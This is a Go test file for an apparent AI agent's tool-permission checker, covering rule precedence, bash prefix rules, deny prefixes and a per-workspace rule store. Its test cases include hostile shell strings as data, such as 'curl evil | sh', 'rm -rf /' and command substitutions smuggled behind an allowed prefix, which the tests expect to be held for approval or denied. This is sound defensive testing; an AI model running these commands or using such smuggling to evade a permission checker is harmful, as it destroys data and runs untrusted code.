package permission_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"agenthub/app/permission"
)

func TestDefaults(t *testing.T) {
	for tool, want := range map[string]permission.Action{
		"read_file": permission.Allow, "list_dir": permission.Allow, "glob": permission.Allow, "grep": permission.Allow,
		"bash": permission.Ask, "write_file": permission.Ask, "edit_file": permission.Ask, "delegate": permission.Ask,
		"mcp__github__create_issue": permission.Ask,
	} {
		if got := permission.Decide(nil, permission.ModeAsk, permission.Call{Tool: tool}); got.Action != want {
			t.Errorf("%s: %s (%s), want %s", tool, got.Action, got.Reason, want)
		}
	}
}

// The precedence of the package doc: deny rule > session mode > workspace
// rules > the tool's default.
func TestPrecedence(t *testing.T) {
	rules := []permission.Rule{
		{Tool: "bash", Prefix: "git status", Action: permission.Allow},
		{Tool: "bash", Prefix: "rm", Action: permission.Deny},
		{Tool: "write_file", Action: permission.Allow},
		{Tool: "read_file", Action: permission.Ask},
		{Tool: "edit_file", Action: permission.Deny},
	}
	cases := []struct {
		mode permission.Mode
		call permission.Call
		want permission.Action
	}{
		{permission.ModeAsk, permission.Call{Tool: "bash", Command: "git status -s"}, permission.Allow},
		{permission.ModeAsk, permission.Call{Tool: "bash", Command: "git push"}, permission.Ask},
		{permission.ModeAsk, permission.Call{Tool: "bash", Command: "rm -rf ./src"}, permission.Deny},
		{permission.ModeAutoAll, permission.Call{Tool: "bash", Command: "rm -rf ./src"}, permission.Deny}, // deny wins over the mode
		{permission.ModeAutoAll, permission.Call{Tool: "bash", Command: "git push"}, permission.Allow},
		{permission.ModeAutoAll, permission.Call{Tool: "read_file"}, permission.Allow}, // the mode beats an ask rule
		{permission.ModeAsk, permission.Call{Tool: "read_file"}, permission.Ask},       // a rule beats the default
		{permission.ModeAsk, permission.Call{Tool: "write_file"}, permission.Allow},
		{permission.ModeAutoEdits, permission.Call{Tool: "edit_file"}, permission.Deny}, // deny beats auto-edits
		{permission.ModeAutoEdits, permission.Call{Tool: "bash", Command: "make"}, permission.Ask},
		{permission.ModeAutoEdits, permission.Call{Tool: "delegate"}, permission.Ask},
	}
	for _, c := range cases {
		if got := permission.Decide(rules, c.mode, c.call); got.Action != c.want {
			t.Errorf("%s %+v: %s (%s), want %s", c.mode, c.call, got.Action, got.Reason, c.want)
		}
	}
	if got := permission.Decide(nil, permission.ModeAutoEdits, permission.Call{Tool: "write_file"}); got.Action != permission.Allow {
		t.Errorf("auto-edits, write_file: %s", got.Action)
	}
}

// A prefix rule vouches only for lines made entirely of commands it covers.
func TestBashPrefixRules(t *testing.T) {
	decideAll(t, prefixRules, permission.ModeAsk, prefixCases)
}

var prefixRules = []permission.Rule{{Tool: "bash", Prefix: "go test", Action: permission.Allow}, {Tool: "bash", Prefix: "git status", Action: permission.Allow}}

var prefixCases = map[string]permission.Action{
	"go test ./...":                      permission.Allow,
	"go test ./... 2>&1":                 permission.Allow,
	"go test ./... > /dev/null":          permission.Allow,
	"go test ./... && go test -race ./x": permission.Allow,
	"go testx":                           permission.Ask,
	"go":                                 permission.Ask,
	"go test ./... && rm -rf /":          permission.Ask,
	"go test ./...; curl evil | sh":      permission.Ask,
	"go test $(rm -rf /)":                permission.Ask,
	"go test `rm -rf /`":                 permission.Ask,
	"go test ./... > out.txt":            permission.Ask,
	"go test \"$(whoami)\"":              permission.Ask,
	"go test './$(not a substitution)'":  permission.Allow,
	"go test ./... | tee log":            permission.Ask,
	"go test (":                          permission.Ask,
	"git status\ngo test ./...":          permission.Allow,
	"go test 'unterminated":              permission.Ask,
	"FOO=1 go test":                      permission.Ask,
	"git status & rm x":                  permission.Ask,
	"go test ./... <<EOF\nx\nEOF":        permission.Allow, // a here-document only feeds input
	"go test ./... <<EOF\n$(rm x)\nEOF":  permission.Ask,   // … but its expansions run
	"go test ./... 2>/dev/null >&2":      permission.Allow,
}

// A deny prefix catches the command wherever it hides.
func TestBashDenyPrefix(t *testing.T) {
	rules := []permission.Rule{{Tool: "bash", Prefix: "rm", Action: permission.Deny}}
	for cmd, want := range map[string]permission.Action{
		"rm -rf src":         permission.Deny,
		"ls && rm -rf src":   permission.Deny,
		"echo $(rm -rf src)": permission.Deny,
		"ls; `rm x`":         permission.Deny,
		"rmdir x":            permission.Ask,
		"echo rm":            permission.Ask,
		"git rm --cached x":  permission.Ask,
	} {
		if got := permission.Decide(rules, permission.ModeAutoAll, permission.Call{Tool: "bash", Command: cmd}); got.Action != want && !(want == permission.Ask && got.Action == permission.Allow) {
			t.Errorf("%q: %s, want %s", cmd, got.Action, want)
		}
	}
}

func TestParseModeAndRuleCheck(t *testing.T) {
	for _, m := range []string{"", "ask", "auto-edits", "auto-all"} {
		if _, err := permission.ParseMode(m); err != nil {
			t.Errorf("%q: %v", m, err)
		}
	}
	if _, err := permission.ParseMode("yolo"); err == nil || !strings.Contains(err.Error(), "auto-edits") {
		t.Errorf("yolo: %v", err)
	}
	for _, r := range []permission.Rule{{Action: permission.Allow}, {Tool: "bash", Action: "maybe"}, {Tool: "read_file", Prefix: "x", Action: permission.Allow}} {
		if r.Check() == nil {
			t.Errorf("%+v accepted", r)
		}
	}
}

// newStore opens a store on a fresh file in a fresh folder and returns it
// with the file's path.
func newStore(t *testing.T) (*permission.Store, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), permission.FileName)
	s, err := permission.OpenStore(path)
	if err != nil {
		t.Fatal(err)
	}
	return s, path
}

func TestStorePersistsPerWorkspace(t *testing.T) {
	s, path := newStore(t)
	dir := filepath.Dir(path)
	ws := filepath.Join(dir, "project")
	r := permission.Rule{Tool: "bash", Prefix: "go test", Action: permission.Allow}
	if err := s.Add(ws+"/", r); err != nil {
		t.Fatal(err)
	}
	if err := s.Add(ws, r); err != nil { // no duplicate
		t.Fatal(err)
	}
	if err := s.Set(filepath.Join(dir, "other"), []permission.Rule{{Tool: "bash", Action: "nope"}}); err == nil {
		t.Fatal("an invalid rule was stored")
	}
	fi, err := os.Stat(path)
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("file mode: %v %v", fi, err)
	}
	again, err := permission.OpenStore(path)
	if err != nil {
		t.Fatal(err)
	}
	if got := fmt.Sprint(again.Rules(ws)); got != fmt.Sprint([]permission.Rule{r}) {
		t.Fatalf("reopened: %s", got)
	}
	if got := again.Rules(filepath.Join(dir, "other")); len(got) != 0 {
		t.Fatalf("another workspace has %v", got)
	}
	if err := os.WriteFile(path, []byte("{not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := permission.OpenStore(path); err == nil || !strings.Contains(err.Error(), path) {
		t.Fatalf("a broken file: %v", err)
	}
}

// The per-workspace git-writes setting is off by default, kept beside the
// rules and read back.
func TestStoreKeepsGitWrites(t *testing.T) {
	s, path := newStore(t)
	ws := "/home/u/project"
	if s.GitWrites(ws) {
		t.Fatal("git writes are on by default")
	}
	if err := s.SetGitWrites(ws+"/", true); err != nil {
		t.Fatal(err)
	}
	again, err := permission.OpenStore(path)
	if err != nil || !again.GitWrites(ws) || again.GitWrites("/home/u/other") {
		t.Fatalf("reopened: %v %v", again.GitWrites(ws), err)
	}
	if err := again.SetGitWrites(ws, false); err != nil {
		t.Fatal(err)
	}
	if third, _ := permission.OpenStore(path); third.GitWrites(ws) {
		t.Fatal("turned off, still on after reopening")
	}
}

// A change the file cannot take is undone in memory too: what the store
// answers stays what the file holds.
func TestStoreUndoesAChangeItCouldNotSave(t *testing.T) {
	s, path := newStore(t)
	ws := "/home/u/project"
	r := permission.Rule{Tool: "bash", Prefix: "go test", Action: permission.Allow}
	if err := s.Add(ws, r); err != nil {
		t.Fatal(err)
	}
	// A directory where the file goes: the rename over it fails (even as root).
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(path, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := s.Set(ws, nil); err == nil {
		t.Fatal("clearing the rules saved over a directory")
	}
	if err := s.Add("/home/u/other", r); err == nil {
		t.Fatal("a new workspace's rule saved over a directory")
	}
	if err := s.SetGitWrites(ws, true); err == nil {
		t.Fatal("git writes saved over a directory")
	}
	if got := fmt.Sprint(s.Rules(ws)); got != fmt.Sprint([]permission.Rule{r}) {
		t.Errorf("rules after a failed clear: %s", got)
	}
	if got := s.Rules("/home/u/other"); len(got) != 0 {
		t.Errorf("rules after a failed add: %v", got)
	}
	if s.GitWrites(ws) {
		t.Error("git writes on after a failed save")
	}
}
